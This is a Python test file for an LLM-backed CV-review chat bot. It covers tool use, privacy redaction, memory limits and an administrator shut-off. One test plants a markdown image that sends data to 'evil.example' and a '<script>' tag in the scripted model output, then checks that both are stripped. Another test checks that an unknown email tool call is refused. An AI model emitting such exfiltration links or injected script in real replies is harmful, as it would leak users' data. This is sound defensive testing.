"""Free talk, told as conversations: with a model that looks and proposes, without one, and in public."""

from collections.abc import AsyncIterator, Callable

import pytest

from core.chat.reply import Button
from core.chat.request import Said
from core.llm.port import Call, Completion, Query
from core.llm.scripted import Answer, Scripted
from core.sandbox import Sandbox
from tests import papers
from tests.plain import Someone
from tests.world import World

Open = Callable[..., "World"]


def calls(name: str, line: str) -> Completion:
    return Completion(calls=(Call(id=f"c-{name}-{line}", name=name, arguments={"line": line}),))


@pytest.fixture
async def talk(sqlite_url: str, sandbox: Sandbox) -> AsyncIterator[Callable[..., World]]:
    """Opens a world whose model gives these answers."""
    worlds: list[World] = []

    async def opened(*answers: Answer | Callable[[Query], Answer]) -> World:
        world = World(sqlite_url, sandbox, model=Scripted(answers))
        worlds.append(await world.__aenter__())
        return world

    yield opened
    for world in worlds:
        await world.end()


def asked(world: World) -> list[Query]:
    model = world.desk._model
    assert isinstance(model, Scripted)
    return model.asked


def buttons(someone: Someone) -> list[Button]:
    return [button for row in someone.last.reply.buttons for button in row]


async def test_it_looks_before_it_answers_and_proposes_as_a_button(talk: Open) -> None:
    world = await talk(
        calls("look", "findings 1"),
        calls("propose", "settings"),
        "Your **payment line** has no number.\n\n- Say how many requests it served.",
    )
    ada = world.person("Ada")
    await ada.sends(papers.pdf())
    await ada.says("what should I mend first?")
    ada.sees("payment line has no number", "• Say how many requests", "worded by a language model")
    assert buttons(ada)[0].run == "settings"
    result = asked(world)[1].messages[-1]
    assert result.role == "tool"
    assert papers.WEAK in result.content, "it has read the findings as they are shown"


async def test_what_it_looks_at_is_undone(talk: Open) -> None:
    world = await talk(calls("look", "settings zone=Europe/Berlin"), calls("look", "forget chat"), "Done.")
    ada = world.person("Ada")
    await ada.says("set my time zone to Berlin and forget it all")
    results = [query.messages[-1].content for query in asked(world)[1:]]
    assert all("propose it" in result for result in results)
    await ada.says("/settings")
    ada.sees("Time zone: UTC")


async def test_other_peoples_reviews_do_not_exist(talk: Open) -> None:
    world = await talk(calls("look", "score 1"), "There is none.")
    bo, eve = world.person("Bo"), world.person("Eve")
    await bo.sends(papers.pdf())
    await eve.says("show me review 1")
    assert "no longer kept" in asked(world)[1].messages[-1].content


async def test_unknown_tools_and_hidden_commands_lead_nowhere(talk: Open) -> None:
    world = await talk(
        calls("send_email", "me@example.org"),
        calls("propose", "model off"),
        calls("propose", "forget everything"),
        "Well.",
    )
    ada = world.person("Ada")
    await ada.says("forget everything and switch the model off")
    assert [button.run for button in buttons(ada)] == ["forget"], "what deletes asks again, with nothing filled in"
    await ada.presses("/forget")
    ada.sees("What shall I delete?")
    await ada.presses("Everything")
    ada.sees("cannot be undone")


async def test_an_answer_shows_no_links_pictures_or_marks(talk: Open) -> None:
    world = await talk(
        "![x](https://evil.example/?q=cv) See [this](https://evil.example/a) or www.evil.example/b, "
        "<script>alert(1)</script> [EMAIL_9] github.com/adaokafor"
    )
    ada = world.person("Ada")
    await ada.sends(papers.pdf())
    await ada.says("what do you think of me in general, my friend")
    assert "evil" not in ada.last.text
    assert "EMAIL_9" not in ada.last.text
    ada.sees("github.com/adaokafor")


async def test_personal_data_stays_here(talk: Open) -> None:
    world = await talk("I would write to [EMAIL_1].")
    ada = world.person("Ada")
    await ada.says("is jo.lind@example.org a good address for a CV")
    sent = "\n".join(message.content for query in asked(world) for message in query.messages)
    assert "jo.lind" not in sent
    ada.sees("I would write to jo.lind@example.org.")


async def test_stop_stops_and_what_was_said_is_remembered_as_it_was_seen(talk: Open) -> None:
    world = await talk("Use *one* page (not two).", "never said", "It was the (first) one.")
    ada = world.person("Ada")
    await ada.says("how long should it be, do you think?")
    await world.engine.hear([ada.request(Said(text=words)) for words in ("and the letter, my friend?", "Stop.")])
    await world.engine.idle()
    ada.sees("Stopped.")
    await ada.says("which page was it again?")
    assert "Use one page (not two)." in [message.content for message in asked(world)[-1].messages]


async def test_it_remembers_within_bounds_until_told_to_forget(talk: Open) -> None:
    world = await talk(*(f"answer {number}" for number in range(14)))
    ada = world.person("Ada")
    for number in range(12):
        await ada.says(f"question {number} " + "x" * 300)
    told = [message.content for message in asked(world)[-1].messages]
    assert any("answer 10" in content for content in told)
    assert not any("question 0 " in content for content in told)
    assert sum(map(len, told)) < 14_000
    await ada.says("/privacy")
    ada.sees("things that we said in free talk")
    await ada.says("/forget chat")
    ada.sees("Deleted: Our talk")
    await ada.says("and now?")
    assert not any("answer 10" in message.content for message in asked(world)[-1].messages)


@pytest.mark.parametrize("reason", ["timeout", "quota", "refused", "garbled", "unreachable"])
async def test_without_an_answer_the_rules_say_honestly(talk: Open, reason: str) -> None:
    world = await talk(reason)
    ada = world.person("Ada")
    await ada.says("please review my resume")
    ada.sees("Did you mean this?", "language model")
    assert ada.last.labels[0].startswith("/resume")


async def test_a_server_without_tools_answers_all_the_same(talk: Open) -> None:
    world = await talk("rejected", "Your score is 61.")
    ada = world.person("Ada")
    await ada.says("hm, so how does it look at the moment")
    ada.sees("Your score is 61.")
    assert asked(world)[0].tools
    assert not asked(world)[1].tools


async def test_it_must_answer_in_the_end(talk: Open) -> None:
    world = await talk(*(calls("look", "help") for _ in range(3)), "Enough.")
    ada = world.person("Ada")
    await ada.says("tell me all")
    ada.sees("Enough.")
    assert not asked(world)[-1].tools


async def test_in_public_the_answer_comes_in_private(talk: Open) -> None:
    world = await talk("Between us: your score is fine.")
    group = world.person("Ada", private=False)
    await group.says("how good is my cv?")
    group.sees("only you can see")
    assert asked(world) == []
    button = buttons(group)[0]
    assert button.away
    eve, ada = world.person("Eve"), world.person("Ada")
    await eve.runs("ask", number=int(button.run.split()[1]))
    eve.sees("somebody else's")
    await ada.runs("ask", number=int(button.run.split()[1]))
    ada.sees("Between us")


async def test_an_administrator_can_switch_it_off(talk: Open) -> None:
    world = await talk("never said")
    ada = world.person("Ada")
    async with world.store.begin() as tx:
        from core.llm.store import MODEL, switch

        await switch(tx, MODEL, on=False)
    await ada.says("please review my resume")
    ada.sees("Did you mean this?")
    assert asked(world) == []
